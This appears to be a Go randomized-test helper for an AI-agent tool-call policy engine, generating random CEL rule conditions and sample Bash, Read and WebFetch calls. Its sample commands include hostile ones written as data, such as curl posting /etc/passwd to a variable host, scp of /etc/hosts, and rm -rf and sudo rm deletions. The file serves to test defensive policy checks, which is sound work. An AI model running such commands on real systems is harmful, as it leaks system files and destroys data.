package rule

import (
	"fmt"
	"math/rand/v2"
	"strings"

	"github.com/sluice-project/sluice/llm"
	"github.com/sluice-project/sluice/policy"
)

// rich are conditions on everything that a policy can ask about.
var rich = []string{
	`call.args.n + 1 > 2`, `call.args.list.map(x, x).size() > 1`, `call.args.list.filter(x, x == "a").size() == 1`, `type(call.args.n) == int`, `call.args.n in [1, 2, 3]`,
	`call.args.command in ["ls"]`, `call.args.exists(k, k == "n")`, `call.args.all(k, size(k) > 1)`, `has(call.args.n) && call.args.n == 1`, `call.args.map.k == "v"`, `call.args["command"].startsWith("g")`,
	`call.commands.exists_one(c, c.is("ls"))`, `call.commands.map(c, c.name) == ["ls"]`, `call.commands.map(c, c.sub).exists(s, s == "push")`, `call.commands.filter(c, c.has("-f")).size() > 0`,
	`call.commands.map(c, c.is("git"), c.sub).exists(s, s.startsWith("p"))`, `call.commands.exists(c, c.args.filter(a, a.startsWith("-")).size() > 0)`,
	`call.commands.exists(c, c.flags("f").exists(v, v == "a"))`, `call.commands.exists(c, "a" in c.flags("f"))`,
	`call.commands.exists(c, c.args.exists(a, a.lowerAscii() == "x"))`, `call.commands.exists(c, c.sub.size() > 3)`, `call.commands.exists(c, size(c.sub) + 1 > 5)`,
	`call.commands.exists(c, c.args[size(c.args) - 1] == "x")`, `call.commands.exists(c, c.args[1] in ["a", "x"])`, `call.commands.exists(c, c.sub in ["push", "$X"])`,
	`call.commands.exists(c, c.env["X"] == "1")`, `call.commands.exists(c, c.env.size() > 0)`, `call.commands.exists(c, has(c.env.X))`,
	`call.commands.exists(c, c.names(["/etc/passwd", "a"]))`, `call.commands.exists(c, c.is(["ls", "rm"]))`, `call.commands.exists(c, c.is(call.args.command))`,
	`call.effects.exists(e, e.verb == "delete" && e.touches(["/x/**", "**/a"]))`, `call.effects.exists(e, e.verb == "write" && e.object.under("/tmp"))`, `call.effects.size() > 1`, `call.effects.exists(e, e.outside(["/x"]))`,
	`call.effects.all(e, e.within(["/x", "/tmp"]))`, `call.effects.exists(e, e.around(["/x/y"]))`, `call.effects.exists(e, e.carries(["/etc/**"]))`, `call.effects.map(e, e.verb).exists(v, v == "read")`,
	`call.effects.exists(e, e.object.matches("^/tmp/.*x$"))`, `call.effects.exists(e, e.object.endsWith("x") && !e.guess)`, `call.effects.filter(e, e.verb == "read").size() == 0`, `call.effects.exists(e, e.object.host() == "example.com")`,
	`call.effects[0].verb == "read"`, `call.effects.exists(e, e.object == call.args.command || e.from == "")`, `call.effects.exists(e, e.wide || e.sudo || e.remote || e.shown || e.scratch)`,
	`now > timestamp("2020-01-01T00:00:00Z") && now.getHours() >= 0`, `now.getDayOfWeek("Europe/Berlin") < 7`, `"a,b".split(",").size() == 2`, `call.raw.replace("git", "x").contains("x push")`, `"%s-%d".format([call.name, 3]) == "Bash-3"`,
	`call.raw.upperAscii().contains("GIT")`, `call.raw.indexOf("git") > 3`, `call.name.charAt(0) == "B"`, `call.raw.substring(0, 2) == "{\""`, `string(call.args.n) == "1"`, `int(call.args.command) == 3`, `double(call.args.n) > 0.5`,
	`[call.name, call.kind].exists(x, x == "shell")`, `[1, 2, 3].exists(x, x == call.args.n)`, `{"a": 1, "b": 2}.exists(k, call.name.contains(k))`, `{"Bash": 1}[call.name] == 1`, `call.name in {"Bash": true}`, `[call.name][0] == "Bash"`,
	`[[call.name], ["x"]].exists(l, "Bash" in l)`, `(call.kind == "shell" ? call.name : call.kind) == "Bash"`, `(call.kind == "shell" ? call.commands : []).exists(c, c.is("ls"))`, `call.args.list == ["a", "b"]`, `call.args == {"n": 1}`,
	`dyn(call.name) == 3`, `call.args.n == null || call.args.n == 1.0`, `call.args.list[0] == "a"`, `call.args.list[7] == "a"`, `call.args.list["x"] == 1`, `call.args.command.x == 1`, `call.args.n.matches("a")`, `call.args.command.matches(".*git.*")`,
	`session.cwd + "/a" in call.reads`, `session.labels.size() == 0 || "x" in key.groups`, `request.model == "x" || call.name == "Bash"`, `past.untrusted`, `past.known && !past.private`, `past.copied(call.raw)`, `call.raw.suspicious()`, `text == "" && result.tool == ""`,
	`request.messages.exists(m, m.role == "user" && m.text.contains("x"))`, `"Bash" in request.tools`, `request.user_text.contains("deploy")`,
	`call.reads.exists(r, r.glob(call.kind))`, `call.reads.exists(r, r in call.writes)`, `call.reads == call.writes`, `call.urls.map(u, u.host()).exists(h, h == "example.com")`, `size(call.urls) + size(call.reads) > 1`, `call.urls[0].startsWith("https")`,
	`call.commands.exists(c, c.sub == call.args.command)`, `call.commands.exists(c, call.args.command in c.args)`, `call.commands.exists(c, [c.sub, "x"].exists(s, s == "x"))`, `call.commands.exists(c, c == call.commands[0])`,
	`["a","x"].exists(v, call.commands.exists(c, v in c.args))`, `call.commands.exists(c, c.args.map(a, a + "!").exists(b, b == "x!"))`, `bytes(call.raw) != b""`, `call.args.n < 3u`, `-call.args.n < 0`, `!call.args.flag`, `call.args.flag`, `call.args.flag || call.args.missing`,
	`duration("1h") > duration("5m")`, `call.args.when < now`, `timestamp(call.args.when) < now`, `call.commands.exists(c, !(c.sub in ["a", "b"]) && c.sub != "")`, `call.args.list.exists_one(x, x == "a")`, `call.args.map.exists(k, call.args.map[k] == "v")`,
}

func richCondition(r *rand.Rand, depth int) string {
	return Combined(r, depth, func() string {
		if r.IntN(3) == 0 {
			return randomCondition(r, 0)
		}
		return rich[r.IntN(len(rich))]
	})
}

// Combined combines some conditions in every way that CEL has.
func Combined(r *rand.Rand, depth int, leaf func() string) string {
	if depth == 0 || r.IntN(5) == 0 {
		return leaf()
	}
	a, b := Combined(r, depth-1, leaf), Combined(r, depth-1, leaf)
	switch r.IntN(8) {
	case 0, 1:
		return "(" + a + " && " + b + ")"
	case 2, 3:
		return "(" + a + " || " + b + ")"
	case 4:
		return "!(" + a + ")"
	case 5:
		return "(" + a + " ? " + b + " : " + Combined(r, depth-1, leaf) + ")"
	case 6:
		return "call.args.list.exists(y, " + a + ")"
	default:
		return "((" + a + ") == (" + b + "))"
	}
}

func richBlock(r *rand.Rand) llm.Block {
	extra := []string{`,"n":1`, `,"n":2.5`, `,"n":"x"`, `,"list":["a","b"]`, `,"list":[]`, `,"list":["x",1,null]`, `,"map":{"k":"v"}`, `,"flag":true`, `,"flag":"x"`, `,"when":"2020-01-01T00:00:00Z"`, `,"n":1e400`}
	if r.IntN(3) > 0 {
		b := randomBlock(r)
		if b.Name == "Bash" && b.Status == llm.Complete {
			for range r.IntN(4) {
				e := extra[r.IntN(len(extra))]
				if strings.Contains(b.Arguments, e[:4]) {
					continue
				}
				b.Arguments = b.Arguments[:len(b.Arguments)-1] + e + "}"
			}
		}
		return b
	}
	some := []string{`rm -rf "$D"`, `cp "$A" /tmp/x`, `echo "$X" > "/tmp/$Y"`, `git -C "$D" push origin "b$X"`, `curl "https://$H/x" -d @/etc/passwd`, `docker run --f a --f "x$Y" img`, `ls $X -f a`, `ls -- "$X"`, `cat list | xargs rm -- x`, `kubectl --f "p$C" get`, `tool -f a -f $Z x`, `rm -rf /x/y /tmp/a`, `sudo cat a > b; scp /etc/hosts h:/x`, `echo "a$V" | tee /x/y`}
	list := []string{}
	for range 1 + r.IntN(2) {
		list = append(list, some[r.IntN(len(some))])
	}
	return bashBlock(strings.Join(list, "; "))
}

func randomExchange(r *rand.Rand) *policy.Exchange {
	x := &policy.Exchange{}
	if r.IntN(2) == 0 {
		x.Session.Cwd = "/x"
	}
	if r.IntN(2) == 0 {
		x.Session.Home = "/home/ada"
	}
	return x
}

func randomCondition(r *rand.Rand, depth int) string {
	leaves := []string{
		`call.kind == "shell"`, `call.kind in ["read", "fetch"]`, `call.name == "Bash"`, `call.name in ["Read", "Bash"]`,
		`call.commands.exists(c, c.is("rm"))`, `call.commands.exists(c, c.is("rm", "git") && c.has("-f"))`,
		`call.commands.exists(c, c.name == "git" && c.sub == "push")`, `call.commands.all(c, c.is("ls"))`,
		`call.commands.size() > 1`, `call.commands.size() < 2`, `call.commands.filter(c, c.is("ls")).size() > 0`,
		`call.commands.map(c, c.name).exists(n, n == "git")`, `call.commands.exists(c, "-f" in c.args)`,
		`call.reads.exists(f, f.under("/etc"))`, `"/tmp/x" in call.writes`, `call.writes.size() > 0`,
		`call.urls.exists(u, u.host() == "example.com")`, `call.args.missing == 1`, `call.args.command.contains("x")`,
		`call.args.command > 3`, `call.raw.contains("git")`, `session.cwd == "/x"`, `1 / size(call.urls) == 1`, `true`,
		`["rm", "git"].exists(p, call.commands.exists(c, c.is(p)))`, `call.args.list.exists(x, call.kind == "shell")`,
		`call.commands.exists(c, c.is("ls") || c.sudo || c.remote)`, `call.commands.exists(c, c.sub in ["push", "pull"])`,
		`call.commands.exists(c, c.args.exists(a, a.startsWith("/") || a.matches("^-[a-z]$")))`, `call.commands.all(c, c.args.all(a, a != "x"))`,
		`call.commands.exists(c, c.args[0].endsWith("h"))`, `call.commands.exists(c, c.args.size() == 0)`, `call.commands.exists(c, c.flag("f") == "a")`,
		`call.commands.exists(c, !c.is("rm") && c.text.matches("(?i)LS|GIT"))`, `call.reads.exists(f, f.glob("~/*") || f.glob("/etc/*"))`,
		`call.writes.all(w, w.under(session.cwd))`, `has(session.cwd) && session.cwd.under("/x")`, `session.home + "/a" == "/home/ada/a"`,
		`"pipe" in call.unknown`, `call.unknown.size() > 0`, `size(call.raw) > 30`, `call.urls.exists(u, u.host().endsWith("." + "com"))`,
		`["git", "ls"].exists(n, call.commands.exists(c, c.name == n && c.sub != n))`, `call.commands.exists(c, c.sub in c.args)`,
		`call.commands.exists(c, c.args.exists(a, a in c.args && a == c.sub))`, `call.commands.exists(c, c.sub + c.flag("f") == c.name)`,
		`call.commands.exists(c, c.is("curl") && call.commands.exists(d, d.is("rm", "git") && d.args.exists(a, a.contains(c.name))))`,
		`call.commands.exists(c, "X" in c.env)`, `["^g", "s$"].exists(p, call.commands.exists(c, c.name.matches(p) && c.sub.matches(p)))`,
		`["(", "^g"].exists(p, call.commands.exists(c, c.name.matches(p)))`, `call.commands.exists(c, c.sub in c.env && size(c.env) > 0)`, `call.commands.exists(c, c.args.size() > 1 && c.args[c.args.size() - 1] == "a")`, `call.commands.exists(c, c.env.exists(k, k == "X"))`, `call.commands.exists(c, c.sub == "push" ? c.has("-f") : c.sudo)`, `call.server == "" && call.raw_name != "x"`,
		`call.commands[0].is("git")`, `call.commands.exists(c, call.commands.exists(d, c.name == d.name && d.is("ls")))`,
	}
	return Combined(r, depth, func() string { return leaves[r.IntN(len(leaves))] })
}

func randomCommands(r *rand.Rand) string {
	some := []string{"ls", "rm -f a", "git push", "git push -f", "cat /etc/passwd", "echo > /tmp/x", "curl https://example.com/", "sudo rm x", "X=1 ls", "push=1 git push a",
		`git "$X"`, `rm -f $Y x`, `echo > "/tmp/$Z"`, `curl "https://$H/"`, `ls "a$V" -f a`}
	var list []string
	for range 1 + r.IntN(3) {
		list = append(list, some[r.IntN(len(some))])
	}
	return strings.Join(list, "; ")
}

func bashBlock(command string) llm.Block {
	return llm.Block{Kind: llm.ToolCall, Name: "Bash", Arguments: fmt.Sprintf(`{"command":%q}`, command), Status: llm.Complete}
}

func randomBlock(r *rand.Rand) llm.Block {
	switch r.IntN(8) {
	case 0:
		return llm.Block{Kind: llm.ToolCall, Name: "get_weather", Arguments: `{"city":"Paris","list":3}`, Status: llm.Complete}
	case 1:
		return llm.Block{Kind: llm.ToolCall, Name: "Read", Arguments: `{"file_path":"/etc/passwd","list":[]}`, Status: llm.Complete}
	case 2:
		return llm.Block{Kind: llm.ToolCall, Name: "WebFetch", Arguments: `{"url":"https://example.com/x"}`, Status: llm.Complete}
	case 3:
		return llm.Block{Kind: llm.ToolCall, Name: "Bash", Arguments: `{"command":`, Status: llm.Malformed}
	case 4:
		return bashBlock(randomCommands(r) + "; $X a")
	case 5:
		return bashBlock(randomCommands(r) + " | xargs rm")
	default:
		return bashBlock(randomCommands(r))
	}
}
